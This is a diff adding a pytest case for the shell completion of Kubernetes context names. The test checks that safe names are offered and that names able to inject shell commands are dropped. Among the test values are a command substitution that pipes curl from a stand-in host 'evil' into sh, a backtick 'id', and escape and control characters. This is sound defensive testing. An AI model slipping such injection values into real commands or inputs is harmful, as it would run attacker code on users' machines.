@@ -1,5 +1,6 @@
 """Completion offers what fits, and never a word about what went wrong."""
 
+import json
 from collections.abc import Mapping
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -57,3 +58,26 @@ def test_completion_is_silent_about_failures(ask: Any, capsys: pytest.CaptureFix
     nowhere = Path("/nonexistent")
     assert ask(_so_far(kubeconfig=nowhere, config=nowhere, source=nowhere), "") == []
     assert capsys.readouterr() == ("", "")
+
+
+@pytest.mark.parametrize(
+    ("name", "offered"),
+    [
+        ("prod-eu", True),
+        ("arn:aws:eks:eu-west-1:123456789012:cluster/prod", True),
+        ("kubernetes-admin@kubernetes", True),
+        ("$(curl evil|sh)", False),
+        ("`id`", False),
+        ("a;b", False),
+        ("a b", False),
+        ("--no-exec", False),
+        ("a\x1b[2J", False),
+        ("a\u202eb", False),
+        ("a\nb", False),
+    ],
+)
+def test_completion_offers_nothing_that_a_shell_would_run(tmp_path: Path, name: str, offered: bool) -> None:
+    """A candidate becomes a part of the line that somebody is about to send off."""
+    config = tmp_path / "config"
+    config.write_text(json.dumps({"contexts": [{"name": name, "context": {}}]}))
+    assert completion.contexts(_so_far(kubeconfig=config), "") == ([name] if offered else [])
